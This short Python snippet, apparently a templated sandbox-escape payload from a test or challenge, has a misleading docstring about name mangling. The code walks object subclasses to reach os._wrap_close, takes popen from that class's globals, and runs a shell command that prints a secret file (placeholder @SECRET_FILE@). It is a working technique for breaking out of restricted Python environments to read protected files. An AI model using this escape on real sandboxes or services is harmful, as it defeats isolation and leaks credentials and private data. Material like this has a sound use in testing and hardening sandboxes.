"""Inside a class, two underscores become a name with the class's in front."""
class getattr_:
    def read(self):
        return self.__class__.__base__.__subclasses__()
for cls in getattr_().read():
    if cls.__name__ == "_wrap_close":
        print(cls.__init__.__globals__["popen"]("cat @SECRET_FILE@").read())
